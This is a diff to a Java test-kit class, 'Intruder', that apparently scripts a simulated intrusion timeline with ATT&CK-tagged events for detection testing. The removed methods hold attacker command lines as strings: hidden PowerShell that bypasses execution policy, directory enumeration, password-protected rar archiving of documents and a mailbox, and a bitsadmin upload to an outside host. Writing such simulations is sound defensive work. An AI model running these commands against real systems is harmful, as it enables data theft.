@@ -5,12 +5,12 @@ import static org.tocsin.testkit.sample.Office.FS;
 import static org.tocsin.testkit.sample.Office.JONAS;
 import static org.tocsin.testkit.sample.Office.JONAS_PC;
 import static org.tocsin.testkit.sample.Office.LIBRARY;
-import static org.tocsin.testkit.sample.Office.MARA;
 import static org.tocsin.testkit.sample.Office.MARA_PC;
 import static org.tocsin.testkit.sample.Office.PLAYER;
 import static org.tocsin.testkit.sample.Office.SCAN;
 import static org.tocsin.testkit.sample.Office.TOBI;
 
+import java.time.Instant;
 import org.tocsin.testkit.Machine;
 import org.tocsin.testkit.Machine.Account;
 import org.tocsin.testkit.Program;
@@ -31,7 +31,7 @@ final class Intruder {
     static final String LOGIN_IP = "203.0.113.91";
 
     private static final String TASK = "\\Microsoft\\Windows\\MediaSync\\Refresh";
-    private static final String PERF = "C:\\PerfLogs\\";
+    static final String PERF = "C:\\PerfLogs\\";
 
     private final Chronicle chronicle;
 
@@ -46,14 +46,10 @@ final class Intruder {
         moveToServer();
         takeDirectory();
         moveToDirector();
-        lookForPeople();
-        waitQuietly();
-        collectPlans();
         switchOffDefence();
         returnToServer();
-        searchDirector();
-        catchPassword();
         coverTracks();
+        new Spying(chronicle).watch();
     }
 
     private Scene scene(Machine machine, Account who, String start) {
@@ -61,11 +57,11 @@ final class Intruder {
     }
 
     /// The implant as it runs on a machine.
-    private static Running implant(Scene scene) {
+    static Running implant(Scene scene) {
         String integrity = scene.who().equals(Account.SYSTEM) ? "System" : "Medium";
         return Running.started(
                         scene.machine(),
-                        java.time.Instant.parse("2025-07-08T07:31:44Z"),
+                        Instant.parse("2025-07-08T07:31:44Z"),
                         PLAYER,
                         '"' + PLAYER.image() + "\" -q",
                         scene.who(),
@@ -73,10 +69,10 @@ final class Intruder {
                 .at(integrity);
     }
 
-    private static Running serverImplant(Scene scene) {
+    static Running serverImplant(Scene scene) {
         return Running.started(
                 scene.machine(),
-                java.time.Instant.parse("2025-08-05T20:19:02Z"),
+                Instant.parse("2025-08-05T20:19:02Z"),
                 Program.bare("C:\\Windows\\debug\\WIA\\svchost.exe"),
                 "C:\\Windows\\debug\\WIA\\svchost.exe -k netsvc",
                 Account.SYSTEM,
@@ -88,7 +84,7 @@ final class Intruder {
         Scene s = scene(JONAS_PC, JONAS, "2025-07-08T07:31:04.2718281Z");
         Running outlook = Running.started(
                 JONAS_PC,
-                java.time.Instant.parse("2025-07-08T06:58:00Z"),
+                Instant.parse("2025-07-08T06:58:00Z"),
                 new Program(
                         "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
                         "Outlook.exe",
@@ -434,95 +430,6 @@ final class Intruder {
                 "WMI subscription keeps the implant alive");
     }
 
-    private void lookForPeople() {
-        Scene s = scene(MARA_PC, MARA, "2025-08-26T18:20:44.8980102Z");
-        String script =
-                "Import-Module ActiveDirectory\r\nGet-ADUser -Filter * -Properties mail,telephoneNumber,title | "
-                        + "Export-Csv C:\\PerfLogs\\u.csv\r\nGet-ADGroupMember -Identity 'Partners' -Recursive | Export-Csv "
-                        + "C:\\PerfLogs\\p.csv";
-        Running shell = s.run(
-                Office.POWERSHELL,
-                "powershell.exe -nop -w hidden -ep bypass -file C:\\PerfLogs\\u.ps1",
-                implant(s),
-                "T1059.001",
-                "hidden PowerShell of the implant");
-        s.show(
-                SystemEvents.scriptBlock(MARA_PC, s.tick(), MARA, shell.pid(), script, "C:\\PerfLogs\\u.ps1"),
-                "T1087.002",
-                "people and partners taken from the directory");
-        s.file(shell, PERF + "u.csv", "T1074.001", "list of people in a staging folder");
-        Running cmd = s.run(CMD, "C:\\Windows\\system32\\cmd.exe", implant(s), "T1059.003", "shell of the implant");
-        s.run(Office.NET, "net  group Partners /domain", cmd, "T1069.002", "asks who the partners are");
-    }
-
-    /// For months nothing but a call now and then.
-    private void waitQuietly() {
-        for (String day : new String[] {
-            "2025-09-09",
-            "2025-10-01",
-            "2025-10-24",
-            "2025-11-13",
-            "2026-01-08",
-            "2026-01-29",
-            "2026-03-19",
-            "2026-04-16",
-            "2026-05-12",
-            "2026-07-02",
-            "2026-07-23"
-        }) {
-            Scene s = scene(MARA_PC, Account.SYSTEM, day + "T09:14:51.3141592Z");
-            s.call(implant(s), CONTROL, CONTROL_IP, "T1071.001", "call to the control server");
-        }
-    }
-
-    /// The documents of the organisation: listed, searched, packed, sent.
-    private void collectPlans() {
-        Scene s = scene(FS, Account.SYSTEM, "2025-12-02T21:15:06.1618033Z");
-        Running shell = s.run(
-                CMD, "cmd.exe /c C:\\PerfLogs\\doc.bat", serverImplant(s), "T1059.003", "batch file of the intruder");
-        s.run(
-                CMD,
-                "cmd.exe  /c dir /s /b /a D:\\Shares\\*.docx D:\\Shares\\*.xlsx D:\\Shares\\*.pdf > C:\\PerfLogs\\d.txt",
-                shell,
-                "T1083",
-                "all documents listed into a file");
-        s.run(
-                Office.FINDSTR,
-                "findstr  /s /i /m \"delegation witness itinerary\" D:\\Shares\\Plans\\*.txt D:\\Shares\\Plans\\*.csv",
-                shell,
-                "T1083",
-                "documents searched for words of the organisation's work");
-        Running rar = s.run(
-                Office.RAR,
-                "C:\\PerfLogs\\rar.exe  a -r -v50m -hpMadeUp-02 C:\\Recovery\\p1.rar D:\\Shares\\Plans\\*.docx "
-                        + "D:\\Shares\\Contacts\\*.xlsx",
-                shell,
-                "T1560.001",
-                "plans and contact lists packed with a password");
-        for (String file : new String[] {
-            "Plans\\Spring delegation plan.docx",
-            "Plans\\Witness travel itinerary.docx",
-            "Contacts\\Partner contacts.xlsx"
-        }) {
-            s.show(
-                    SecurityEvents.fileRead(FS, s.tick(), "D:\\Shares\\" + file, rar),
-                    "T1039",
-                    "document read for packing");
-        }
-        s.pause("PT26M");
-        s.run(
-                Office.BITSADMIN,
-                "bitsadmin  /transfer sync /upload /priority normal https://" + FILES
-                        + "/u/p1.rar C:\\Recovery\\p1.rar",
-                serverImplant(s),
-                "T1048",
-                "archive sent out with a Windows tool");
-        s.show(
-                SystemEvents.transfer(FS, s.tick(), s.who(), "sync", "https://" + FILES + "/u/p1.rar", 38_204_416),
-                "T1197",
-                "archive sent out with a Windows tool");
-    }
-
     private void switchOffDefence() {
         Scene s = scene(MARA_PC, Account.SYSTEM, "2026-02-24T10:02:33.9149150Z");
         s.show(
@@ -579,6 +486,8 @@ final class Intruder {
                         "auto start"),
                 "T1219",
                 "remote-help program run from a public folder");
+        Scene j = scene(JONAS_PC, Account.SYSTEM, "2026-05-26T20:54:51.4811111Z");
+        desktop(j);
         s.show(
                 SystemEvents.session(FS, s.pause("PT14M").tick(), 21, SCAN, 3, JONAS_PC.ip()),
                 "T1021.001",
@@ -589,73 +498,16 @@ final class Intruder {
                 "new account on the server's desktop from a colleague's laptop");
     }
 
-    private void searchDirector() {
-        Scene s = scene(MARA_PC, MARA, "2026-06-09T18:33:20.7071067Z");
-        Running shell = s.run(CMD, "C:\\Windows\\system32\\cmd.exe", implant(s), "T1059.003", "shell of the implant");
-        s.run(
-                CMD,
-                "cmd  /c dir /s /b C:\\Users\\mara\\*passport* C:\\Users\\mara\\*visa* > C:\\PerfLogs\\v.txt",
-                shell,
-                "T1083",
-                "papers of travellers looked for");
-        s.run(
-                Office.FINDSTR,
-                "findstr  /s /i /m \"delegation witness\" C:\\Users\\mara\\Documents\\*.txt",
-                shell,
-                "T1083",
-                "documents searched for words of the organisation's work");
-        Running powershell = s.run(
-                Office.POWERSHELL,
-                "powershell.exe -nop -w hidden -ep bypass -file C:\\PerfLogs\\f.ps1",
-                implant(s),
-                "T1059.001",
-                "hidden PowerShell of the implant");
-        s.show(
-                SystemEvents.scriptBlock(
-                        MARA_PC,
-                        s.tick(),
-                        MARA,
-                        powershell.pid(),
-                        "Get-ChildItem C:\\Users\\mara -Recurse -Include *contact*,*plan*,*itinerary* -ErrorAction "
-                                + "SilentlyContinue | Select-Object FullName,LastWriteTime | Export-Csv C:\\PerfLogs\\f.csv",
-                        "C:\\PerfLogs\\f.ps1"),
-                "T1083",
-                "contacts and plans looked for");
-        s.run(
-                CMD,
-                "cmd  /c copy /y C:\\Users\\mara\\AppData\\Local\\Microsoft\\Outlook\\mara@quillfeather.example.ost "
-                        + "C:\\PerfLogs\\o.dat",
-                shell,
-                "T1114.001",
-                "the director's mailbox copied");
-        Running rar = s.run(
-                Office.RAR,
-                "C:\\PerfLogs\\rar.exe  a -r -hpMadeUp-03 C:\\PerfLogs\\m.rar C:\\Users\\mara\\Documents\\*.docx C:\\PerfLogs\\o.dat",
-                shell,
-                "T1560.001",
-                "documents and mailbox packed with a password");
-        s.file(rar, PERF + "m.rar", "T1074.001", "archive in a staging folder");
-        s.pause("PT8M");
-        s.call(implant(s), FILES, FILES_IP, "T1041", "archive sent out");
-    }
-
-    /// A page that looks like the organisation's own; the mail that led there is in the mails.
-    private void catchPassword() {
-        Scene s = scene(MARA_PC, MARA, "2026-08-11T08:47:31.2247448Z");
-        Running browser = Running.started(
-                MARA_PC,
-                java.time.Instant.parse("2026-08-11T06:50:00Z"),
-                Office.EDGE,
-                '"' + Office.EDGE.image() + "\" --profile-directory=Default",
-                MARA,
-                5_724);
-        s.call(browser, LOGIN, LOGIN_IP, "T1566.002", "page that imitates the organisation opened");
-    }
-
     /// On the server: the Security log starts again with the record of its own clearing.
     private void coverTracks() {
         Account session = SCAN.session(0x2c9_f05);
-        Scene s = scene(FS, session, "2026-09-28T22:40:58.1111111Z");
+        desktop(scene(JONAS_PC, Account.SYSTEM, "2026-09-28T22:36:02.4040404Z"));
+        Scene s = scene(FS, session, "2026-09-28T22:36:05.9090909Z");
+        s.show(
+                SystemEvents.session(FS, s.tick(), 21, SCAN, 4, JONAS_PC.ip()),
+                "T1021.001",
+                "new account on the server's desktop from a colleague's laptop");
+        s = scene(FS, session, "2026-09-28T22:40:58.1111111Z");
         s.show(SecurityEvents.logCleared(FS, s.tick(), session), "T1070.001", "Security log cleared");
         s.show(
                 SystemEvents.logCleared(FS, s.tick(), session, SystemEvents.OLD_POWERSHELL),
@@ -677,5 +529,13 @@ final class Intruder {
                 shell,
                 "T1070.004",
                 "traces deleted in the staging folders");
+    }
+
+    /// The implant on the first laptop opens the server's desktop.
+    private static void desktop(Scene s) {
+        s.show(
+                SysmonEvents.connected(s.machine(), s.tick(), implant(s), FS.ip(), "FS-01." + Office.ZONE, 3389),
+                "T1021.001",
+                "implant connects to the server's desktop");
     }
 }
